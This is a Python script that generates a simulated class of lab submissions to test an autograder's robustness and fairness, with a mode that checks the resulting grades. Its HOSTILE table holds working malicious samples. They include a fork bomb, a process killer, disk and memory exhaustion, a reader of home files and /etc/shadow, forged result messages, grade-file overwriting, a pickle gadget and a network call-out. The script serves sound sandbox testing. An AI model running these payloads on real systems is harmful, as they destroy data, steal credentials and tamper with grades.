"""Makes a class's submissions, hostile ones among them, to try grading with.

python labs/simulate_class.py FOLDER [--students 60] [--hostile 15] [--labs 01 02 …] [--seed 0]
python labs/simulate_class.py FOLDER --check GRADES

Of the honest ones some are right, some have a known wrong idea, some have not begun, some are broken. grading them must
give each what it deserves; `expected.json` in FOLDER says what that is, and with --check a table of grades is held
against it.
"""

from __future__ import annotations

import argparse
import csv
import json
import sys
from pathlib import Path
from random import Random

sys.path.insert(0, str(Path(__file__).parent))

import selftest

from sglab.labs.coursework import lab
from sglab.labs.exercises.answers import AnswerExercise
from sglab.labs.lab import Lab

DEFAULT = ("01", "02", "05", "06", "07")
_READ = """
import os
found = []
for root in ("{folder}", os.path.expanduser("~"), "/proc/1/environ", "/etc/shadow"):
    for at, _, files in os.walk(root):
        for name in files:
            try:
                found.append(open(os.path.join(at, name)).read()[:200])
            except OSError:
                pass
print("STOLEN", len(found), found[:3])
"""
_FORGE = """
import json, os, struct
steps = [{"$dict": [["value", True]]}] * 500
message = json.dumps({"$dict": [["result", {"$dict": [["steps", steps], ["error", ""]]}]]}).encode()
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", len(message)) + message)
    except OSError:
        pass
os._exit(0)
"""
HOSTILE = {
    "hangs": "while True: pass\n",
    "sleeps": "import time\ntime.sleep(10_000)\n",
    "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "threads": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(999,)).start()\n",
    "eats_memory": "x = []\nwhile True:\n    x.append(bytearray(1 << 26))\n",
    "prints": "while True:\n    print('x' * 1_000_000)\n",
    "fills_the_disk": "import os\nfor i in range(10_000):\n    open(f'/tmp/{i}', 'wb').write(b'x' * (1 << 24))\n",
    "reads_others": _READ,
    "forges_results": _FORGE,
    "writes_grades": "open('{folder}/../grades.csv', 'w').write('mallory,100')\n",
    "calls_home": "import socket\nsocket.create_connection(('192.0.2.1', 80), 1).send(b'hello')\n",
    "kills": "import os, signal\nfor pid in range(2, 100_000):\n    try:\n        os.kill(pid, "
    "signal.SIGKILL)\n    except OSError:\n        pass\n",
    "crashes": "import ctypes\nctypes.string_at(0)\n",
    "pickles": "class Evil:\n    def __reduce__(self):\n        return (print, ('PWNED',))\ndef "
    "page_table(*a):\n    return Evil()\nextend = update = retract = tree_mask = page_table\n",
    "recurses": "x = []\nfor _ in range(100_000):\n    x = [x]\ndef page_table(*a):\n    return "
    "x\nextend = update = retract = tree_mask = page_table\n",
    "exits_in_a_thread": "import threading, os\nthreading.Timer(0.01, os._exit, "
    "(0,)).start()\nimport time\ntime.sleep(1)\n",
    "replaces_builtins": "import builtins, sys\nbuiltins.isinstance = lambda *a: True\nsys.modules.clear()\n",
}


def write(place: Path, files: dict[str, str]) -> None:
    place.mkdir(parents=True)
    for name, text in files.items():
        (place / name).write_text(text, "utf-8")


def honest(one: Lab, student: str, random: Random) -> tuple[str, dict[str, str]]:
    """What kind of student, and the files."""
    right = selftest.solution(one, student)
    kind = random.choice(["right", "right", "right", "wrong", "wrong", "starter", "broken", "part"])
    if kind == "wrong":
        _, idea, files = random.choice(list(selftest.wrongs(one)))
        return f"wrong {idea}", {**right, **{name: files[name] for name in files if name != "answers.py"}}
    if kind == "starter":
        return kind, selftest.starters(one, student)
    if kind == "broken":
        return kind, {name: text + "\ndef broken(:\n" for name, text in right.items()}
    if kind == "part":
        return kind, {name: text for name, text in right.items() if name != "answers.py"}
    return kind, right


def simulate(folder: Path, students: int, hostile: int, labs: list[str], seed: int) -> dict[str, str]:
    """Writes FOLDER/submissions and FOLDER/expected.json; returns what kind of submission each student's is."""
    random = Random(seed)
    submissions = folder / "submissions"
    kinds: dict[str, str] = {}
    names = random.sample(sorted(HOSTILE), min(hostile, len(HOSTILE)))
    python = [name for name in labs if not lab(name).needs] or labs  # hostile code needs a lab that runs code
    for number in range(students):
        hostile_one = number < len(names)
        one = lab(python[number % len(python)] if hostile_one else labs[number % len(labs)])
        student = f"student{number:02d}"
        if hostile_one:
            text = HOSTILE[names[number]].replace("{folder}", str(submissions.resolve()))
            files = {each.file: text for each in one.exercises}
            kinds[student] = f"hostile {names[number]}"
        else:
            kinds[student], files = honest(one, student, random)
        write(submissions / student / one.folder, files)
    (folder / "expected.json").write_text(json.dumps(kinds, indent=1))
    return kinds


def undeserved(folder: Path, grades: Path) -> list[str]:
    """What a table of grades (CSV) has wrong of a simulated class."""
    kinds: dict[str, str] = json.loads((folder / "expected.json").read_text())
    with open(grades, newline="", encoding="utf-8") as file:
        rows = {row["student"]: row for row in csv.DictReader(file)}
    problems = [f"{student}: no grade" for student in kinds if student not in rows]
    problems += [f"{student}: not of this class" for student in rows if student not in kinds]
    for student, row in rows.items():
        kind, points = kinds.get(student, ""), float(row["points"])
        one = lab(row["lab"])
        if kind.startswith("wrong "):
            fine = points < one.points and kind.removeprefix("wrong ") in row["ideas"].split()
        else:
            asked = sum(each.points for each in one.exercises if isinstance(each, AnswerExercise))
            fine = points == {"right": one.points, "part": one.points - asked}.get(kind, 0)
        if not fine:
            problems.append(
                f"{student}, lab {one.id}, {kind}: {points:g} of {one.points:g}, ideas: {row['ideas'] or 'none'}"
            )
    return problems


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--students", type=int, default=60)
    parser.add_argument("--hostile", type=int, default=15)
    parser.add_argument("--labs", nargs="+", default=list(DEFAULT))
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--check", type=Path, metavar="GRADES", help="hold this table against FOLDER's expected.json")
    options = parser.parse_args()
    if options.check:
        problems = undeserved(options.folder, options.check)
        print("\n".join(problems) or f"{options.check}: everybody has what they deserve")
        sys.exit(bool(problems))
    kinds = simulate(options.folder, options.students, options.hostile, options.labs, options.seed)
    hostile = sum("hostile" in kind for kind in kinds.values())
    print(f"{options.folder}/submissions: {len(kinds)} students, {hostile} hostile")


if __name__ == "__main__":
    main()
